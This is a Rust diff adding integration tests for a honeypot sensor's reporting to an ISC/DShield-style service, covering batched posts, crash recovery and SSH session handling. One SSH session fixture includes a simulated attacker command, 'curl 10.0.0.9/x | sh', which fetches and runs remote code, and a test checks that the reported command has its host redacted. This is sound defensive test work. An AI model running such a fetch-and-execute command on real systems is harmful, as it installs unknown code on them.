@@ -6,10 +6,11 @@ use std::time::Instant;
 
 use serde_json::{Value as Json, json};
 use serin_event::{Event, Record, Timestamp, Value, kinds};
+use serin_store::{Options, Reader, Store};
 use serin_tests::{Receiver, Reply, Sensor, Setup, eventually};
 
 use super::isc::{APIKEY, EMAIL, Isc, PUBLIC, USERID, within_floor};
-use super::{store, stranger as source, strangers as event};
+use super::{store, store_at, stranger as source, strangers as event};
 
 /// A public address that nobody has since RFC 7526.
 const TARGET: &str = "192.88.99.250";
@@ -50,6 +51,11 @@ fn status(sensor: &Sensor) -> Json {
     all.as_array().unwrap().iter().find(|it| it["name"] == "isc").unwrap().clone()
 }
 
+/// Returns when the output has read what it has to post.
+fn waiting(sensor: &Sensor) {
+    eventually("rows to wait", || Some(()).filter(|()| status(sensor)["lag_events"].as_u64() > Some(0)));
+}
+
 #[test]
 fn isc_gets_logins_once_and_in_one_post_whatever_happens_to_the_sensor() {
     let isc = Isc::start([]);
@@ -74,7 +80,8 @@ fn isc_gets_logins_once_and_in_one_post_whatever_happens_to_the_sensor() {
     );
     assert!(
         receipt.ends_with(
-            "1 documentation address, 1 in admin_nets, 1 own address, 1 private or special address"
+            "1 documentation address, 1 in admin_nets, 1 own address, \
+             100 private destination without replace_honeypot_ip, 1 private or special address"
         ),
         "{receipt}"
     );
@@ -114,7 +121,7 @@ fn a_stop_posts_what_waits_of_opencanarys_handler() {
     });
     let mut sensor =
         setup.with("logger", json!({ "class": "PyLogger", "kwargs": { "handlers": handlers } })).start();
-    eventually("the rows to wait", || Some(()).filter(|()| status(&sensor)["lag_events"].as_u64() > Some(0)));
+    waiting(&sensor);
     assert_eq!(isc.requests(), 0);
     sensor.stop();
     let posts = isc.posts();
@@ -135,7 +142,7 @@ fn packets_and_connections_are_firewall_rows() {
     records.push(event(&kinds::SNMP_REQUEST, &source(2), TARGET));
     records.push(event(&kinds::FTP_LOGIN, "2a01:4f8::1", "2a01:4f8:1:2::3"));
     let mut sensor = reporting(&isc, records, &json!({ "anonymize_v6": 32 }));
-    eventually("the rows to wait", || Some(()).filter(|()| status(&sensor)["lag_events"].as_u64() > Some(0)));
+    waiting(&sensor);
     sensor.stop();
     let posts = isc.posts();
     assert_eq!(posts.len(), 1);
@@ -151,6 +158,96 @@ fn packets_and_connections_are_firewall_rows() {
         ]
     );
     assert_eq!(posts[0].rows[2]["dip"], "2a01:4f8::");
+    isc.assert_manners();
+}
+
+/// What the sensor noted of its posts happened two minutes earlier.
+fn let_time_pass(sensor: &Sensor) {
+    const TIME: i64 = 120_000_000;
+    let path = sensor.config().parent().unwrap().join("state/serin.db");
+    let (mut store, _) = Store::open(&Options::new(path.clone())).unwrap();
+    let mut readers = Reader::open(&path).unwrap().readers().unwrap();
+    let reader = readers.iter_mut().find(|it| it.name == "isc").unwrap();
+    let mut status: Json = serde_json::from_str(&reader.status).unwrap();
+    let mut memory: Json = serde_json::from_str(status["memory"].as_str().unwrap()).unwrap();
+    memory["posted"] = json!(memory["posted"].as_i64().unwrap() - TIME);
+    status["memory"] = json!(memory.to_string());
+    reader.status = status.to_string();
+    store.save_readers(std::slice::from_ref(reader)).unwrap();
+}
+
+#[test]
+fn a_web_request_is_a_row_and_its_connection_another_once_each() {
+    let isc = Isc::start([]);
+    let mut records: Vec<_> = (0..2).map(|_| event(&kinds::HTTP_GET, &source(1), TARGET)).collect();
+    let time = records[0].time;
+    records[1].time = time;
+    let mut sensor = reporting(&isc, records, &json!({}));
+    waiting(&sensor);
+    sensor.stop();
+    assert_eq!(isc.posts().len(), 1);
+    assert_eq!((isc.posts()[0].kind.as_str(), isc.posts()[0].rows.len()), ("webhoneypot", 2));
+
+    // The connection's row waits, also across a crash and a stop within the minute.
+    sensor.start();
+    waiting(&sensor);
+    sensor.crash();
+    sensor.start();
+    waiting(&sensor);
+    sensor.stop();
+    assert_eq!(isc.requests(), 1);
+    let_time_pass(&sensor);
+    sensor.start();
+    waiting(&sensor);
+    sensor.stop();
+    let posts = isc.posts();
+    assert_eq!((posts.len(), posts[1].kind.as_str(), posts[1].rows.len()), (2, "firewall", 1));
+    let row = &posts[1].rows[0];
+    assert_eq!(
+        (&row["sip"], &row["dip"], &row["dport"], &row["flags"]),
+        (&json!(source(1)), &json!(TARGET), &json!("80"), &json!("S"))
+    );
+
+    // Another request of that minute comes late: its connection was told.
+    let late = Record { time, ..event(&kinds::HTTP_GET, &source(1), TARGET) };
+    store_at(sensor.config().parent().unwrap(), vec![late]);
+    let_time_pass(&sensor);
+    sensor.start();
+    waiting(&sensor);
+    sensor.stop();
+    let posts = isc.posts();
+    assert_eq!((posts.len(), posts[2].kind.as_str(), posts[2].rows.len()), (3, "webhoneypot", 1));
+    sensor.start();
+    eventually("nothing to wait", || Some(()).filter(|()| status(&sensor)["lag_events"] == 0));
+    assert_eq!(isc.requests(), 3);
+    isc.assert_contents();
+}
+
+/// A session of SSH: two logins, and what was done after the second.
+fn session() -> Vec<Record> {
+    let command = |text: &'static str| {
+        let made = Event::new(&kinds::SSH_REQUEST).with("REQUEST", "exec").with("COMMAND", text);
+        let Record { kind, logdata, .. } = Record::of(&made, Timestamp(0), 0, "");
+        Record { kind, logdata, ..event(&kinds::SSH_CONNECTION, &source(1), "10.0.0.5") }
+    };
+    let login = || event(&kinds::SSH_LOGIN, &source(1), "10.0.0.5");
+    let all = vec![login(), login(), command("uname -a"), command("curl 10.0.0.9/x | sh")];
+    all.into_iter().map(|it| Record { session: 7, ..it }).collect()
+}
+
+#[test]
+fn a_login_tells_the_last_command_of_its_session_and_a_private_host_is_left_out() {
+    let isc = Isc::start([]);
+    let mut sensor = reporting(&isc, session(), &json!({}));
+    waiting(&sensor);
+    sensor.crash();
+    sensor.start();
+    waiting(&sensor);
+    sensor.stop();
+    let posts = isc.posts();
+    assert_eq!((posts.len(), posts[0].kind.as_str()), (1, "cowrie"));
+    let told: Vec<_> = posts[0].rows.iter().map(|it| it["lastcommand"].as_str().unwrap()).collect();
+    assert_eq!(told, ["", "curl …/x | sh"]);
     isc.assert_manners();
 }
 
